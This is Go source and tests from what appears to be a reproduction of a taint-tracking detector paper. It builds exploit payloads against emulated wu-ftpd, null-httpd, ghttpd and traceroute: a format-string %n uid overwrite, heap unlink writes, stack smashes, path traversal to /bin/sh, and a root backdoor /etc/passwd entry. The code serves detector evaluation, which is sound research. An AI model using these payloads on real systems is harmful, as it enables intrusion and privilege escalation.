func InputTargetByName(name string) (InputTarget, bool) {
	for _, t := range InputTargets() {
		if t.Scenario.Name == name {
			return t, true
		}
	}
	return InputTarget{}, false
}

// playStdin delivers input verbatim as the victim's stdin stream and runs
// the machine to its terminal state. The stream simply ends after the
// input: reads past it return EOF, so inputs need no terminator.
func playStdin(m *Machine, input []byte) (Outcome, error) {
	m.Kernel.SetStdin(input)
	return classify(m.Run()), nil
}

// playFTPCommand authenticates the attacker's session against the forked
// daemon (the login dialogue is fixed; only the command after it is
// attacker-chosen, exactly the paper's Table 2 shape) and sends input as
// one command line.
func playFTPCommand(m *Machine, input []byte) (Outcome, error) {
	conn, err := ftpAuth(m)
	if err != nil {
		return Outcome{}, err
	}
	_, runErr := conn.cmd(string(input))
	return classify(runErr), nil
}
