package attack

import (
	"fmt"
	"strings"

	"repro/internal/taint"
)

// Scenario is a replayable attack session for campaign runs. Prepare
// boots the victim to its session-independent steady state — the snapshot
// point — and Session plays one complete attacker dialogue against a
// machine forked from that state, returning the classified outcome. A
// Session must be deterministic: identical forks must yield identical
// outcomes, which is what lets the campaign engine verify parallel runs
// against sequential ones byte for byte.
type Scenario struct {
	Name        string
	Description string
	Prepare     func(policy taint.Policy) (*Machine, error)
	Session     func(m *Machine) (Outcome, error)
}

// Scenarios lists the replayable attack sessions, in stable order.
func Scenarios() []Scenario {
	return []Scenario{
		{
			Name:        "exp1-stack",
			Description: "Fig. 2 synthetic stack smashing via stdin (tainted return address)",
			Prepare: func(policy taint.Policy) (*Machine, error) {
				p, err := mustProg("exp1")
				if err != nil {
					return nil, err
				}
				return Boot(p, Options{Policy: policy})
			},
			Session: func(m *Machine) (Outcome, error) {
				m.Kernel.SetStdin([]byte(strings.Repeat("a", 24) + "\n"))
				out := classify(m.Run())
				if out.Crashed {
					out.Compromised = true
					out.Evidence = "control flow diverted to 0x61616161: " + out.Evidence
				}
				return out, nil
			},
		},
		{
			Name:        "exp2-heap",
			Description: "Fig. 2 synthetic heap corruption (unlink of attacker fd/bk words)",
			Prepare: func(policy taint.Policy) (*Machine, error) {
				p, err := mustProg("exp2")
				if err != nil {
					return nil, err
				}
				return Boot(p, Options{Policy: policy})
			},
			Session: func(m *Machine) (Outcome, error) {
				m.Kernel.SetStdin([]byte(exp2Payload + "\n"))
				return classify(m.Run()), nil
			},
		},
		{
			Name:        "wuftpd-site-exec",
			Description: "Table 2 wu-ftpd SITE EXEC format string; session = login + payload",
			Prepare: func(policy taint.Policy) (*Machine, error) {
				// Warm the calibration cache before the snapshot so every
				// session replays the same precomputed payload.
				if _, _, err := CalibrateWuFTPDFormat(); err != nil {
					return nil, err
				}
				return bootFTP(policy)
			},
			Session: func(m *Machine) (Outcome, error) {
				payload, uidAddr, err := CalibrateWuFTPDFormat()
				if err != nil {
					return Outcome{}, err
				}
				conn, err := ftpAuth(m)
				if err != nil {
					return Outcome{}, err
				}
				_, runErr := conn.cmd(payload)
				out := classify(runErr)
				if !out.Detected && !out.Crashed {
					uid, _, err := m.Mem.LoadWord(uidAddr)
					if err == nil && uid < 100 {
						out.Compromised = true
						out.Evidence = fmt.Sprintf("uid overwritten to %d via %%n at %#x", uid, uidAddr)
					}
				}
				return out, nil
			},
		},
	}
}

// ScenarioByName looks up a replayable scenario.
func ScenarioByName(name string) (Scenario, bool) {
	for _, s := range Scenarios() {
		if s.Name == name {
			return s, true
		}
	}
	return Scenario{}, false
}
