package attack

import (
	"fmt"
	"strings"
	"testing"

	"repro/internal/taint"
)

// forceProv runs fn with ForceProvenance (and optionally ForceReference)
// set, restoring both after.
func forceProv(t *testing.T, reference bool, fn func()) {
	t.Helper()
	savedP, savedR := ForceProvenance, ForceReference
	ForceProvenance, ForceReference = true, reference
	defer func() { ForceProvenance, ForceReference = savedP, savedR }()
	fn()
}

// detectionScenarios lists every scenario that must detect under the
// pointer-taintedness policy — the paper's synthetic experiments, the
// four real-application attacks (wu-ftpd %n, null-httpd dlmalloc unlink,
// ghttpd stack strcpy, traceroute double free), their control-hijack
// variants, and the boot-time env overflow.
var detectionScenarios = []struct {
	name string
	run  func(taint.Policy) (Outcome, error)
	// src is the origin channel the chain must terminate at: "read" or
	// "recv" for syscall inputs (fd >= 0), "env" for the boot-time source.
	src string
}{
	{"exp1", Exp1StackSmash, "read"},
	{"exp2", Exp2HeapCorruption, "read"},
	{"exp3", Exp3FormatString, "recv"},
	{"wuftpd-noncontrol", WuFTPDNonControl, "recv"},
	{"wuftpd-control", WuFTPDControl, "recv"},
	{"nullhttpd-noncontrol", NullHTTPDNonControl, "recv"},
	{"nullhttpd-control", NullHTTPDControl, "recv"},
	{"ghttpd-noncontrol", GHTTPDNonControl, "recv"},
	{"ghttpd-control", GHTTPDControl, "recv"},
	{"traceroute", TracerouteDoubleFree, "argv"},
	{"env-overflow", EnvOverflowAttack, "env"},
}

// TestProvenanceChainsTerminateAtInputs is the tentpole acceptance check:
// with provenance on, every detection's alert must carry a chain whose
// origins name concrete input bytes — the source syscall, the guest fd
// (for read/recv), the stream offset, and a nonzero byte count.
func TestProvenanceChainsTerminateAtInputs(t *testing.T) {
	forceProv(t, false, func() {
		for _, sc := range detectionScenarios {
			out, err := sc.run(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Errorf("%s: %v", sc.name, err)
				continue
			}
			if !out.Detected || out.Alert == nil {
				t.Errorf("%s: not detected: %v", sc.name, out)
				continue
			}
			p := out.Alert.Provenance
			if p == nil {
				t.Errorf("%s: alert has no provenance chain", sc.name)
				continue
			}
			if len(p.Origins) == 0 {
				t.Errorf("%s: chain has no origins:\n%s", sc.name, p)
				continue
			}
			if p.BirthPC == 0 {
				t.Errorf("%s: chain has no birth pc", sc.name)
			}
			sawSrc := false
			for _, o := range p.Origins {
				if o.Syscall == "" || o.Len == 0 {
					t.Errorf("%s: origin missing source or length: %+v", sc.name, o)
				}
				if o.Syscall == sc.src {
					sawSrc = true
					if (sc.src == "read" || sc.src == "recv") && o.FD < 0 {
						t.Errorf("%s: %s origin without a descriptor: %+v", sc.name, sc.src, o)
					}
				}
			}
			if !sawSrc {
				t.Errorf("%s: no %s origin in chain:\n%s", sc.name, sc.src, p)
			}
		}
	})
}

// TestProvenanceChainsEngineIdentical: the reference interpreter and the
// predecoded fast path must reconstruct byte-identical chains — label
// numbering, birth site, and origins all agree, because tainted work
// takes the same execution path in both engines.
func TestProvenanceChainsEngineIdentical(t *testing.T) {
	chains := func(reference bool) map[string]string {
		out := make(map[string]string)
		forceProv(t, reference, func() {
			for _, sc := range detectionScenarios {
				o, err := sc.run(taint.PolicyPointerTaintedness)
				if err != nil {
					t.Fatalf("%s (reference=%v): %v", sc.name, reference, err)
				}
				if o.Alert == nil || o.Alert.Provenance == nil {
					t.Fatalf("%s (reference=%v): no chain", sc.name, reference)
				}
				out[sc.name] = o.Alert.Provenance.String()
			}
		})
		return out
	}
	fast := chains(false)
	ref := chains(true)
	for name, f := range fast {
		if r := ref[name]; f != r {
			t.Errorf("%s: chains differ between engines:\n--- fast\n%s\n--- reference\n%s", name, f, r)
		}
	}
}

// TestProvenanceSurvivesFork: sessions replayed from copy-on-write forks
// of one snapshot must reconstruct the same chain as each other — the
// label table, register label shadow, and memory label shadow all travel
// through Snapshot/Fork intact.
func TestProvenanceSurvivesFork(t *testing.T) {
	forceProv(t, false, func() {
		for _, sc := range Scenarios() {
			m, err := sc.Prepare(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("prepare %s: %v", sc.Name, err)
			}
			if !m.CPU.ProvEnabled() {
				t.Fatalf("%s: ForceProvenance did not reach the scenario boot", sc.Name)
			}
			snap, err := m.Snapshot()
			if err != nil {
				t.Fatalf("snapshot %s: %v", sc.Name, err)
			}
			var chains []string
			for i := 0; i < 3; i++ {
				out, err := sc.Session(snap.Fork())
				if err != nil {
					t.Fatalf("%s fork %d: %v", sc.Name, i, err)
				}
				if out.Alert == nil || out.Alert.Provenance == nil {
					t.Fatalf("%s fork %d: no chain: %v", sc.Name, i, out)
				}
				chains = append(chains, out.Alert.Provenance.String())
			}
			for i := 1; i < len(chains); i++ {
				if chains[i] != chains[0] {
					t.Errorf("%s: fork %d chain diverged:\n%s\nvs\n%s", sc.Name, i, chains[i], chains[0])
				}
			}
			if !strings.Contains(chains[0], "<- ") {
				t.Errorf("%s: chain lacks origins:\n%s", sc.Name, chains[0])
			}
		}
	})
}

// TestProvenancePerturbationFree: enabling provenance must change nothing
// observable about execution — same alert, same instruction/cycle
// counters, same memory fingerprint. (The only difference is the chain
// attached to the alert.)
func TestProvenancePerturbationFree(t *testing.T) {
	for _, sc := range Scenarios() {
		run := func(provOn bool) (Outcome, string, uint64) {
			var out Outcome
			var stats string
			var fp uint64
			saved := ForceProvenance
			ForceProvenance = provOn
			defer func() { ForceProvenance = saved }()
			m, err := sc.Prepare(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("prepare %s: %v", sc.Name, err)
			}
			out, err = sc.Session(m)
			if err != nil {
				t.Fatalf("session %s: %v", sc.Name, err)
			}
			stats = fmt.Sprintf("%+v | %+v", m.CPU.Stats(), m.CPU.Pipe())
			fp = m.Mem.Fingerprint()
			return out, stats, fp
		}
		off, offStats, offFP := run(false)
		on, onStats, onFP := run(true)
		if off.Evidence != on.Evidence {
			t.Errorf("%s: alert text changed under provenance:\noff: %s\non:  %s", sc.Name, off.Evidence, on.Evidence)
		}
		if offStats != onStats {
			t.Errorf("%s: stats changed under provenance:\noff: %s\non:  %s", sc.Name, offStats, onStats)
		}
		if offFP != onFP {
			t.Errorf("%s: memory fingerprint changed under provenance", sc.Name)
		}
		if off.Alert != nil && off.Alert.Provenance != nil {
			t.Errorf("%s: provenance chain present with provenance off", sc.Name)
		}
		if on.Alert != nil && on.Alert.Provenance == nil {
			t.Errorf("%s: no provenance chain with provenance on", sc.Name)
		}
	}
}
