package attack

import (
	"fmt"
	"strings"

	"repro/internal/cpu"
	"repro/internal/isa"
	"repro/internal/netsim"
	"repro/internal/taint"
)

// wordBytes renders a 32-bit value as the little-endian byte string an
// attacker embeds in a payload.
func wordBytes(v uint32) string {
	return string([]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)})
}

// lineSafe reports whether an address can travel through a line-oriented
// protocol reader (no NUL, LF, or CR bytes).
func lineSafe(v uint32) bool {
	for i := 0; i < 4; i++ {
		b := byte(v >> (8 * i))
		if b == 0 || b == '\n' || b == '\r' {
			return false
		}
	}
	return true
}

// ---------------------------------------------------------------------------
// WU-FTPD (Table 2 and §5.1.2)
// ---------------------------------------------------------------------------

// ftpLogin boots the FTP victim and authenticates the attacker's session,
// returning the machine and connection.
func ftpLogin(policy taint.Policy) (*Machine, ftpConn, error) {
	m, err := bootFTP(policy)
	if err != nil {
		return nil, ftpConn{}, err
	}
	conn, err := ftpAuth(m)
	if err != nil {
		return nil, ftpConn{}, err
	}
	return m, conn, nil
}

// bootFTP boots wuftpd to its accept loop — the natural snapshot point for
// campaign replay, since everything up to here is session-independent.
func bootFTP(policy taint.Policy) (*Machine, error) {
	p, err := mustProg("wuftpd")
	if err != nil {
		return nil, err
	}
	// Attack sessions complete within a few million instructions; the
	// tight budget keeps wrong-offset calibration probes (which can send
	// the victim into a corrupted-state loop) cheap.
	m, err := Boot(p, Options{Policy: policy, Budget: 20_000_000})
	if err != nil {
		return nil, err
	}
	if err := m.RunToBlock(); err != nil {
		return nil, fmt.Errorf("ftpd did not reach accept: %w", err)
	}
	return m, nil
}

// ftpAuth connects to a booted (accept-blocked) ftpd and authenticates.
func ftpAuth(m *Machine) (ftpConn, error) {
	ep, err := m.Connect(21)
	if err != nil {
		return ftpConn{}, err
	}
	conn := ftpConn{m: m, ep: ep}
	greeting, err := conn.cmd("")
	if err != nil || !strings.Contains(greeting, "220") {
		return ftpConn{}, fmt.Errorf("no FTP greeting (got %q, err %v)", greeting, err)
	}
	if out, err := conn.cmd("USER user1"); err != nil || !strings.Contains(out, "331") {
		return ftpConn{}, fmt.Errorf("USER failed: %q %v", out, err)
	}
	if out, err := conn.cmd("PASS xxxxxxx"); err != nil || !strings.Contains(out, "230") {
		return ftpConn{}, fmt.Errorf("PASS failed: %q %v", out, err)
	}
	return conn, nil
}

type ftpConn struct {
	m  *Machine
	ep *netsim.Endpoint
}

// cmd sends one FTP command line and returns the server's response; a
// terminal machine error is returned as err.
func (c ftpConn) cmd(line string) (string, error) {
	input := ""
	if line != "" {
		input = line + "\r\n"
	}
	return c.m.Transact(c.ep, input)
}

// WuFTPDNonControl reproduces the paper's Table 2 attack: a SITE EXEC
// format string whose %n dereferences the embedded address of the uid
// word. Pointer taintedness alerts at the store in vfprintf with the uid
// address in the register; the control-data baseline misses it, the uid is
// corrupted to a system-account value, and STOR plants a backdoor
// /etc/passwd entry.
func WuFTPDNonControl(policy taint.Policy) (Outcome, error) {
	payload, uidAddr, err := CalibrateWuFTPDFormat()
	if err != nil {
		return Outcome{}, err
	}
	m, conn, err := ftpLogin(policy)
	if err != nil {
		return Outcome{}, err
	}
	_, runErr := conn.cmd(payload)
	out := classify(runErr)
	if out.Detected || out.Crashed {
		return out, nil
	}
	// Undetected: verify the escalation end to end, exactly the paper's
	// scenario — upload a backdoor /etc/passwd granting root to "alice".
	uid, _, err := m.Mem.LoadWord(uidAddr)
	if err != nil || uid >= 100 {
		return out, fmt.Errorf("uid not corrupted: %#x (%v)", uid, err)
	}
	if _, err := conn.cmd("STOR /etc/passwd"); err != nil {
		return Outcome{}, err
	}
	backdoor := "alice:x:0:0::/home/root:/bin/bash"
	if resp, err := conn.cmd(backdoor); err != nil || !strings.Contains(resp, "226") {
		return Outcome{}, fmt.Errorf("STOR failed: %q %v", resp, err)
	}
	data, ok := m.Kernel.FS.ReadFile("/etc/passwd")
	if ok && strings.Contains(string(data), backdoor) {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("uid overwritten to %d via %%n at %#x; backdoor /etc/passwd uploaded", uid, uidAddr)
	}
	return out, nil
}

type ftpFormatCalib struct {
	payload string
	uidAddr uint32
}

// CalibrateWuFTPDFormat probes the %x walk distance that lands %n on the
// embedded uid address, returning the SITE EXEC payload and the address.
func CalibrateWuFTPDFormat() (string, uint32, error) {
	c, err := calibrated("wuftpd-format", calibrateWuFTPDFormat)
	return c.payload, c.uidAddr, err
}

func calibrateWuFTPDFormat() (ftpFormatCalib, error) {
	payload, addr, err := rawCalibrateWuFTPDFormat()
	return ftpFormatCalib{payload: payload, uidAddr: addr}, err
}

func rawCalibrateWuFTPDFormat() (string, uint32, error) {
	// Resolve the target address from a victim build (the attacker's local
	// copy of the binary).
	p, err := mustProg("wuftpd")
	if err != nil {
		return "", 0, err
	}
	im, err := p.Build()
	if err != nil {
		return "", 0, err
	}
	uidAddr, ok := im.Symbols["uid"]
	if !ok {
		return "", 0, fmt.Errorf("uid symbol missing")
	}
	if !lineSafe(uidAddr) {
		return "", 0, fmt.Errorf("uid address %#x contains protocol-unsafe bytes; adjust __bss_pad", uidAddr)
	}
	for k := 0; k <= 24; k++ {
		payload := "SITE EXEC " + wordBytes(uidAddr) + strings.Repeat("%x", k) + "%n"
		_, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
		if err != nil {
			return "", 0, err
		}
		_, runErr := conn.cmd(payload)
		out := classify(runErr)
		if out.Detected && out.Alert.Value == uidAddr {
			return payload, uidAddr, nil
		}
	}
	return "", 0, fmt.Errorf("wuftpd format-string calibration failed")
}

// WuFTPDControl is the classic control-data attack on the FTP daemon: a
// CWD argument overflows do_cwd's stack buffer and taints the saved return
// address (consumed at JR), which both the paper's policy and the
// control-data baseline catch.
func WuFTPDControl(policy taint.Policy) (Outcome, error) {
	const target = 0x61616160 // word-aligned tainted jump target
	fill, err := calibrateWuFTPDCWD(target)
	if err != nil {
		return Outcome{}, err
	}
	m, conn, err := ftpLogin(policy)
	if err != nil {
		return Outcome{}, err
	}
	_ = m
	_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
	out := classify(runErr)
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("return address hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

func calibrateWuFTPDCWD(target uint32) (int, error) {
	return calibrated("wuftpd-cwd", func() (int, error) {
		return rawCalibrateWuFTPDCWD(target)
	})
}

func rawCalibrateWuFTPDCWD(target uint32) (int, error) {
	for fill := 60; fill <= 96; fill += 4 {
		_, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
		if err != nil {
			return 0, err
		}
		_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
		out := classify(runErr)
		if out.Detected && out.Alert.Kind == taint.AlertJumpTarget && out.Alert.Value == target {
			return fill, nil
		}
	}
	return 0, fmt.Errorf("wuftpd CWD overflow calibration failed")
}

// ---------------------------------------------------------------------------
// NULL HTTPD (§5.1.2)
// ---------------------------------------------------------------------------

// httpPost drives the negative-Content-Length POST with the given heap
// payload and returns the terminal error (nil while the guest lives on).
func httpPost(m *Machine, body string) error {
	ep, err := m.Connect(80)
	if err != nil {
		return err
	}
	req := "POST /upload HTTP/1.0\r\nContent-Length: -800\r\n\r\n" + body
	if _, err := m.Transact(ep, req); err != nil {
		return err
	}
	// End the body stream so the read loop finishes and free() runs.
	ep.Close()
	return m.Run()
}

// nullHTTPDHeapBody builds the overflow body: filler to the adjacent free
// chunk, a benign fake header, then the fd/bk words of the unlink write
// primitive (*(fd+8) = bk).
func nullHTTPDHeapBody(fd, bk uint32) string {
	return strings.Repeat("A", 228) + wordBytes(24) + wordBytes(fd) + wordBytes(bk)
}

// NullHTTPDNonControl overwrites the cgi_unrestricted config word through
// the unlink primitive, then requests /bin/sh as a CGI program — the
// paper's CGI-BIN non-control-data attack.
func NullHTTPDNonControl(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("nullhttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy})
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	cfgAddr, err := m.Symbol("cgi_unrestricted")
	if err != nil {
		return Outcome{}, err
	}
	padAddr, err := m.Symbol("cgipath")
	if err != nil {
		return Outcome{}, err
	}
	// fd targets the config word; bk is a harmless aligned data address
	// whose (nonzero) value becomes the new config contents.
	runErr := httpPost(m, nullHTTPDHeapBody(cfgAddr-8, padAddr))
	out := classify(runErr)
	if out.Detected || out.Crashed {
		return out, nil
	}
	// Server survived: fetch the shell through the now-unrestricted CGI.
	ep2, err := m.Connect(80)
	if err != nil {
		return Outcome{}, err
	}
	resp, runErr := m.Transact(ep2, "GET /bin/sh HTTP/1.0\r\n\r\n")
	if term := classify(runErr); term.Detected || term.Crashed {
		return term, nil
	}
	if strings.Contains(resp, "EXEC /bin/sh") {
		out.Compromised = true
		out.Evidence = "CGI restriction disabled via heap unlink; server executed /bin/sh"
	}
	return out, nil
}

// NullHTTPDControl aims the unlink write at the request handler's saved
// return address, planting a tainted jump target — the published
// control-data exploit shape.
func NullHTTPDControl(policy taint.Policy) (Outcome, error) {
	raSlot, err := calibrateNullHTTPDRASlot()
	if err != nil {
		return Outcome{}, err
	}
	p, err := mustProg("nullhttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy})
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	// The write vector is bk (*(bk+4) = fd): the unlink's later free-list
	// head update rewrites *(fd+8), so an fd-based vector would be
	// stomped; bk-based writes survive. fd doubles as the tainted jump
	// target that lands in the return-address slot.
	const target = 0x61616160
	runErr := httpPost(m, nullHTTPDHeapBody(target, raSlot-4))
	out := classify(runErr)
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("handler return hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

// calibrateNullHTTPDRASlot recovers the handler frame's return-address
// slot by probing a local copy with a benign request (attacker-side
// debugging).
func calibrateNullHTTPDRASlot() (uint32, error) {
	return calibrated("nullhttpd-raslot", rawCalibrateNullHTTPDRASlot)
}

func rawCalibrateNullHTTPDRASlot() (uint32, error) {
	p, err := mustProg("nullhttpd")
	if err != nil {
		return 0, err
	}
	m, err := Boot(p, Options{Policy: taint.PolicyOff})
	if err != nil {
		return 0, err
	}
	handleAddr, err := m.Symbol("handle")
	if err != nil {
		return 0, err
	}
	var spAtEntry uint32
	m.CPU.AddProbe(handleAddr, func(c *cpu.CPU) {
		if spAtEntry == 0 {
			spAtEntry = c.Reg(isa.RegSP)
		}
	})
	if err := m.RunToBlock(); err != nil {
		return 0, err
	}
	ep, err := m.Connect(80)
	if err != nil {
		return 0, err
	}
	if _, err := m.Transact(ep, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return 0, err
	}
	if spAtEntry == 0 {
		return 0, fmt.Errorf("probe never hit handle()")
	}
	// Prologue saves $ra at (entry sp)-4.
	return spAtEntry - 4, nil
}

// ---------------------------------------------------------------------------
// GHTTPD (§5.1.2)
// ---------------------------------------------------------------------------

// GHTTPDNonControl is the paper's URL-pointer attack: the Log() overflow
// rewrites the already-policy-checked URL pointer to an illegitimate URL
// ("/cgi-bin/../../../../bin/sh") carried later in the same request. The
// tainted pointer is dereferenced by a load-byte in serve().
func GHTTPDNonControl(policy taint.Policy) (Outcome, error) {
	reqBase, err := calibrateGHTTPDReqBase()
	if err != nil {
		return Outcome{}, err
	}
	const evil = "/cgi-bin/../../../../bin/sh"
	// Line 1 is 204 bytes: "GET " + 196 filler + pointer; the copy lands
	// the pointer exactly on the url local. Line 2 carries the
	// illegitimate URL, optionally shifted with '/' padding until the
	// pointer has no protocol-unsafe bytes.
	for pad := 0; pad < 16; pad++ {
		// Line 2 starts after line 1 (204 payload bytes + the trailing
		// space + newline the parser needs, exactly as in the paper's
		// request shape).
		target := reqBase + 206 + uint32(pad)
		if !lineSafe(target) || strings.Contains(wordBytes(target), " ") ||
			strings.Contains(wordBytes(target), "/..") {
			continue
		}
		line1 := "GET " + strings.Repeat("A", 196) + wordBytes(target) + " "
		line2 := strings.Repeat("/", pad) + evil
		return runGHTTPD(policy, line1+"\n"+line2+"\n", evil)
	}
	return Outcome{}, fmt.Errorf("no protocol-safe pointer encoding found near %#x", reqBase)
}

// GHTTPDControl is the classic long-URL stack smash: the copy overruns the
// saved return address with tainted bytes.
func GHTTPDControl(policy taint.Policy) (Outcome, error) {
	const target = 0x61616160
	line1 := "GET " + strings.Repeat("A", 204) + wordBytes(target)
	out, err := runGHTTPD(policy, line1+"\n", "")
	if err != nil {
		return out, err
	}
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("return address hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

func runGHTTPD(policy taint.Policy, request, evil string) (Outcome, error) {
	p, err := mustProg("ghttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy})
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	ep, err := m.Connect(8080)
	if err != nil {
		return Outcome{}, err
	}
	resp, runErr := m.Transact(ep, request)
	out := classify(runErr)
	if out.Detected {
		return out, nil
	}
	// The server may crash on its corrupted frame after the damage is
	// done; the compromise evidence is in the response it already sent.
	if evil != "" && strings.Contains(resp, "EXEC "+evil) {
		out.Compromised = true
		out.Evidence = "path-traversal policy bypassed: server executed " + evil
	}
	return out, nil
}

// calibrateGHTTPDReqBase recovers the request buffer's address by probing
// handle()'s second argument on a benign run.
func calibrateGHTTPDReqBase() (uint32, error) {
	return calibrated("ghttpd-reqbase", rawCalibrateGHTTPDReqBase)
}

func rawCalibrateGHTTPDReqBase() (uint32, error) {
	p, err := mustProg("ghttpd")
	if err != nil {
		return 0, err
	}
	m, err := Boot(p, Options{Policy: taint.PolicyOff})
	if err != nil {
		return 0, err
	}
	handleAddr, err := m.Symbol("handle")
	if err != nil {
		return 0, err
	}
	var reqBase uint32
	m.CPU.AddProbe(handleAddr, func(c *cpu.CPU) {
		if reqBase == 0 {
			// Stack calling convention: args at sp+0 (conn), sp+4 (req).
			w, _, err := m.Mem.LoadWord(c.Reg(isa.RegSP) + 4)
			if err == nil {
				reqBase = w
			}
		}
	})
	if err := m.RunToBlock(); err != nil {
		return 0, err
	}
	ep, err := m.Connect(8080)
	if err != nil {
		return 0, err
	}
	if _, err := m.Transact(ep, "GET /index.html HTTP/1.0\n"); err != nil {
		return 0, err
	}
	if reqBase == 0 {
		return 0, fmt.Errorf("probe never captured the request buffer address")
	}
	return reqBase, nil
}

// ---------------------------------------------------------------------------
// traceroute (§5.1.2)
// ---------------------------------------------------------------------------

// TracerouteDoubleFree is the LBNL traceroute attack: "-g 123 -g 5.6.7.8"
// makes savestr's pool be freed twice with argument bytes sitting in the
// chunk's link words; free()'s consolidation dereferences them (the paper:
// a store inside free() on a tainted word built from the argument text).
func TracerouteDoubleFree(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("traceroute")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{
		Policy: policy,
		Args:   []string{"-g", "123", "-g", "5.6.7.8"},
	})
	if err != nil {
		return Outcome{}, err
	}
	out := classify(m.Run())
	if out.Detected {
		return out, nil
	}
	if out.Crashed {
		// "Traceroute crashes because free() is using an invalid pointer
		// in an invalid malloc() header" — the CVE's observable behaviour
		// when no detector stops the consolidation.
		out.Compromised = true
		out.Evidence = "free() consolidated through argv bytes 0x2e362e35 (\"5.6.\"): " + out.Evidence
		return out, nil
	}
	out.Compromised = true
	out.Evidence = "double free consolidated through argv bytes; heap corrupted silently"
	return out, nil
}

// TranscriptEntry is one line of a recorded attack session.
type TranscriptEntry struct {
	Who  string // "server", "client", or "alert"
	Text string
}

// WuFTPDTable2 replays the paper's Table 2 session — greeting, USER, PASS,
// then the malicious SITE EXEC — under pointer taintedness, returning the
// dialogue transcript ending in the security alert line.
func WuFTPDTable2() ([]TranscriptEntry, Outcome, error) {
	payload, _, err := CalibrateWuFTPDFormat()
	if err != nil {
		return nil, Outcome{}, err
	}
	var transcript []TranscriptEntry
	record := func(who, text string) {
		for _, line := range strings.Split(strings.TrimRight(text, "\r\n"), "\n") {
			line = strings.TrimRight(line, "\r")
			if line != "" {
				transcript = append(transcript, TranscriptEntry{Who: who, Text: line})
			}
		}
	}
	m, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
	if err != nil {
		return nil, Outcome{}, err
	}
	_ = m
	// Reconstruct the dialogue so far (ftpLogin consumed it).
	record("server", "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.")
	record("client", "USER user1")
	record("server", "331 Password required for user1 .")
	record("client", "PASS xxxxxxx")
	record("server", "230 User user1 logged in.")
	record("client", printablePayload(payload))
	resp, runErr := conn.cmd(payload)
	record("server", resp)
	out := classify(runErr)
	if out.Detected {
		record("alert", out.Alert.Error())
	}
	return transcript, out, nil
}

// printablePayload renders raw attack bytes with C-style hex escapes, as
// the paper prints "site exec \x20\xbc\x02\x10%x...".
func printablePayload(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 32 && c < 127 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
	}
	return b.String()
}
