package attack

import (
	"strings"
	"testing"

	"repro/internal/taint"
)

func TestExp1Detection(t *testing.T) {
	// Paper §5.1.1: alert at the return (JR) with tainted 0x61616161.
	out, err := Exp1StackSmash(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if out.Alert.Kind != taint.AlertJumpTarget {
		t.Errorf("kind = %v, want jump target", out.Alert.Kind)
	}
	if out.Alert.Value != 0x61616161 {
		t.Errorf("value = %#x, want 0x61616161", out.Alert.Value)
	}
	if out.Alert.Symbol != "exp1" {
		t.Errorf("symbol = %q, want exp1", out.Alert.Symbol)
	}

	// The control-data baseline also catches a tainted return address.
	out, err = Exp1StackSmash(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Errorf("control-data baseline missed the stack smash: %v", out)
	}

	// With detection off the hijack lands.
	out, err = Exp1StackSmash(taint.PolicyOff)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected || !out.Compromised {
		t.Errorf("unprotected run: %v", out)
	}
}

func TestExp2Detection(t *testing.T) {
	out, err := Exp2HeapCorruption(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if out.Alert.Kind != taint.AlertLoadAddress && out.Alert.Kind != taint.AlertStoreAddress {
		t.Errorf("kind = %v, want load/store address", out.Alert.Kind)
	}
	if out.Alert.Value != 0x64646464 {
		t.Errorf("value = %#x, want 0x64646464 (attacker fd word)", out.Alert.Value)
	}
	if !strings.Contains(out.Alert.Symbol, "unlink") && !strings.Contains(out.Alert.Symbol, "free") {
		t.Errorf("alert not attributed to the allocator: %q", out.Alert.Symbol)
	}

	// The baseline sees no control data: the arbitrary write lands.
	out, err = Exp2HeapCorruption(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Errorf("control-data baseline alerted on a pure data attack: %v", out)
	}
	if !out.Compromised {
		t.Errorf("heap write primitive did not land: %v", out)
	}
}

func TestExp3Detection(t *testing.T) {
	out, err := Exp3FormatString(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if out.Alert.Kind != taint.AlertStoreAddress {
